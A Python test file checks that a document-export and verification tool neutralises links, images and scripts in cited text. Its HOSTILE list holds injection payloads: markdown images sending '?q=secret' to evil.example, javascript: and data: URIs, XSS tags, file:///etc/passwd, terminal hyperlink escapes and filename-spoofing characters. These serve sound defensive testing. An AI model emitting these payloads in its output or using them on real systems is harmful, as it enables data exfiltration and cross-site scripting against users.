"""Images, links and tags of a document or a reply are text in every way out."""

import json
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from every import every
from markdown_it import MarkdownIt
from test_formats import result

from spanwise.export.formats import FORMATS
from spanwise.export.provider_formats import link
from spanwise.guard.report import page
from spanwise.guard.verify import verify
from spanwise.text.injection.marks import unlinked

HOSTILE = [
    "![fee](https://evil.example/x.png?q=secret)",
    "![](http://evil.example/p.png)",
    "![a][b]\n\n[b]: https://evil.example/i.png",
    "[open](https://evil.example/login)",
    "[a](javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a] (https://evil.example)",
    "[a]\n\n[a]: javascript:alert(1)",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "https://evil.example/?q=secret",
    "HTTP://EVIL.EXAMPLE/",
    "ftp://evil.example/a",
    "www.evil.example",
    "evil.example/login?x=1",
    "mailto:thief@evil.example",
    "thief@evil.example",
    "javascript:alert(1)",
    "java\u200bscript:alert(1) javascript\u200b:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    '<img src=x onerror="alert(1)">',
    '<a href="https://evil.example">a</a>',
    "<script>alert(1)</script>",
    "< img src=https://evil.example/x.png>",
    "<iframe src=//evil.example>",
    "<svg/onload=alert(1)>",
    "<!-- x --><link rel=stylesheet href=https://evil.example>",
    "[![a](https://evil.example/i.png)](https://evil.example)",
    "xmpp:a@evil.example",
    "tel:+4900",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\u202egpj.exe\u202c",
]
PLAIN = [
    "The fee is 1.5 % (see Section 4.2) at 10:30; a<b and b>c.",
    "f(x) = [1, 2], List<String>, 3 < 4, C:, e.g. this and/or that",
    "Note: the ratio is 3:1. Mr. A. B. Smith Inc. and U.S. law",
]
SCHEME = re.compile(r"(?i)(?:https?|ftp|javascript|data|vbscript|file|mailto|tel|xmpp):")


class Links(HTMLParser):
    """Collects what a page loads or lets be clicked."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attributes):
        given = dict(attributes)
        self.found += [given[name] for name in ("href", "src", "srcset", "action", "data") if given.get(name)]
        self.found += [name for name in given if name.startswith("on")]
        if tag in {"img", "script", "iframe", "svg", "object", "embed", "form", "link"}:
            self.found.append(tag)


def links(html):
    parser = Links()
    parser.feed(html)
    return [one for one in parser.found if not re.fullmatch(r"#\w+|[\w%.&;]+\.(?:pdf|txt|md)(?:#page=\d+)?|\./.*", one)]


def texts(value):
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [one for name, inner in value.items() if name not in {"$schema", "url"} for one in texts(inner)]
    return [one for inner in value for one in texts(inner)] if isinstance(value, list) else []


def hostile(text):
    whole = f"{text} 1.5 % a month {text}\n- capped at 10 % {text}"
    return replace(result(whole, (text, text)), question=text)


@every("text", HOSTILE)
@every("name", sorted(set(FORMATS) - {"json", "w3c"}))
def test_nothing_in_a_format_can_be_clicked_or_loaded(name, text):
    made = hostile(text).to(name)
    if name == "html":
        assert not links(made)
        return
    if name == "markdown":
        for kind in ("commonmark", "gfm-like"):
            assert not links(MarkdownIt(kind, {"html": True, "linkify": False}).render(made).replace("-ref", ""))
        return
    for said in texts(made):
        assert not SCHEME.search(said)
        assert not links(MarkdownIt("commonmark", {"html": True}).render(said))
        assert not re.search(r"www\.|\w@\w|[\x00-\x08\x1b\u202e]", said)


@pytest.mark.parametrize("name", ["json", "w3c"])
def test_data_keeps_what_was_written(name):
    assert HOSTILE[0] in json.dumps(hostile(HOSTILE[0]).to(name))


@every("text", HOSTILE)
def test_nothing_in_the_report_of_a_verification_can_be_clicked(text):
    report = page(verify(f"The fee is 5 euros {text}.", [f"The fee is 5 euros {text}."]), title=text, question=text)
    assert not links(report)
    assert "\x1b" not in report


@every("text", HOSTILE)
def test_places_stay_where_they_were(text):
    assert len(unlinked(text)) == len(text)
    assert unlinked(unlinked(text)) == unlinked(text)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays(text):
    assert unlinked(text) == text


@pytest.mark.parametrize(
    "name", ["//evil.example/a.pdf", "///evil.example/a.pdf", "javascript:alert(1)", "\\\\evil\\a"]
)
def test_the_name_of_a_document_leads_nowhere_else(name):
    cited = hostile("x").citations[0]
    found = link(replace(cited, document=name))
    assert not found.startswith(("//", "\\"))
    assert ":" not in found


NAMES = ["mail.eml/agenda.pdf", "papers.zip/report.pdf", "www.evil.example", "https://evil.example/a`b.pdf"]


@every("document", NAMES)
@every("name", sorted(FORMATS))
def test_the_name_of_a_document_is_never_changed(name, document):
    given = hostile("x")
    named = replace(given, citations=tuple(replace(one, document=document) for one in given.citations))
    made = named.to(name)
    assert "\u2024" not in json.dumps(made, ensure_ascii=False)
    if name == "markdown":
        shown = MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(made).replace("-ref", "")
        assert document in shown
        assert not links(shown)
        assert f"`{document}" in made.replace("` ", "`") or document == NAMES[0]


def test_a_message_is_no_server_and_an_archive_may_be_one():
    assert unlinked("mail.eml/agenda.pdf, line 3 says it") == "mail.eml/agenda.pdf, line 3 says it"
    assert "\u2024" in unlinked("evil.zip/login")
